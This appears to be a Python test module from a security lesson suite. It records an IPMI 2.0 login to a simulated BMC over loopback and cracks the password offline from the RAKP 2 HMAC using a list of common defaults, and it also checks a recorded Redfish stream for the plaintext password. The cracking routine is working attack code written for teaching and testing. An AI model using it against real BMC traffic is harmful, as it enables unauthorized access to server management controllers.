"""Lesson attack on IPMI (for tests/unit/test_lesson_attacks.py, B415): an observer of the
management network records the example's login to a BMC (lesson_ipmi_device, in a child process)
through a recording relay on the loopback. IPMI 2.0's RAKP 2 message carries an HMAC keyed with the
user's password over values that all cross the wire, so the observer tests password guesses
offline against it, never touching the BMC. The fixed example's Redfish request crosses a
recording TCP relay to an HTTPS stand-in for the BMC: the observer gets TLS records to try.
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import json
import os
import struct
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.unit.lesson_snmp_attacks import udp_relay
from tests.unit.lesson_tls_attacks import _plain_environment, https_server
from tests.unit.lesson_wire_attacks import _relay as tcp_relay

DEVICE = Path(__file__).with_name("lesson_ipmi_device.py")
PASSWORD = "calvin"  # a vendor's factory default, left on many BMCs
GUESSES = ["admin", "ADMIN", "password", "changeme", "root", "calvin", "PASSW0RD"]
RMCP_PLUS, RAKP1, RAKP2 = 0x06, 0x12, 0x13


@contextlib.contextmanager
def bmc(tmp: Path, certs: Path) -> Iterator[dict]:
    """Yields {"ipmi", "https", "datagrams", "stream"}: the relays' ports (the sandbox puts them
    in the examples) and what crossed them."""
    pytest.importorskip("pyghmi")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    device = subprocess.Popen([sys.executable, str(DEVICE), PASSWORD], stdout=subprocess.PIPE,
                              env=env, text=True)
    datagrams: list[tuple[str, bytes]] = []
    stream = bytearray()
    stop = threading.Event()
    relay = None
    redfish = json.dumps({"PowerState": "On"}).encode()
    try:
        ipmi_port, relay = udp_relay(int(device.stdout.readline()), datagrams, stop)
        with https_server(certs, "internal", redfish) as server, tcp_relay(server.port, stream, stop) as port:
            yield {"ipmi": ipmi_port, "https": port, "datagrams": datagrams, "stream": stream}
    finally:
        stop.set()
        if relay is not None:
            relay.join(5)
        device.terminate()
        device.wait(10)


def _payloads(datagrams: list[tuple[str, bytes]], kind: int) -> list[bytes]:
    """The RMCP+ payloads of one type: after the RMCP header (4 bytes), the session header gives
    the authentication type, the payload type, session id, sequence number and payload length."""
    found = []
    for _direction, data in datagrams:
        if len(data) > 16 and data[4] == RMCP_PLUS and data[5] & 0x3F == kind:
            found.append(data[16:16 + struct.unpack("<H", data[14:16])[0]])
    return found


def _cracked(datagrams: list[tuple[str, bytes]]) -> str | None:
    """A guess whose HMAC over the recorded RAKP 1 and 2 values equals RAKP 2's (IPMI 2.0,
    13.31): console and BMC session ids, both random numbers, the BMC's GUID, role, user name."""
    for rakp1, rakp2 in zip(_payloads(datagrams, RAKP1), _payloads(datagrams, RAKP2), strict=False):
        name = rakp1[28:28 + rakp1[27]]
        signed = rakp2[4:8] + rakp1[4:8] + rakp1[8:24] + rakp2[8:24] + rakp2[24:40] + rakp1[24:25] \
            + rakp1[27:28] + name
        for guess in GUESSES:
            if hmac.compare_digest(hmac.new(guess.encode(), signed, hashlib.sha1).digest(), rakp2[40:60]):
                return guess
    return None


def offline_guess(code: dict, tmp: Path, certs: Path, server: dict) -> bool:
    """The example reads the power state; the observer then recovers the password from what it
    recorded, by testing guesses or reading it."""
    with _plain_environment():
        state = code["power_state"]("127.0.0.1", "admin", PASSWORD)
    assert state.lower() == "on", state  # the example's own request worked
    return _cracked(server["datagrams"]) == PASSWORD or PASSWORD.encode() in server["stream"]


offline_guess.around = bmc
offline_guess.needs_certificates = True
offline_guess.real = frozenset({"requests"})
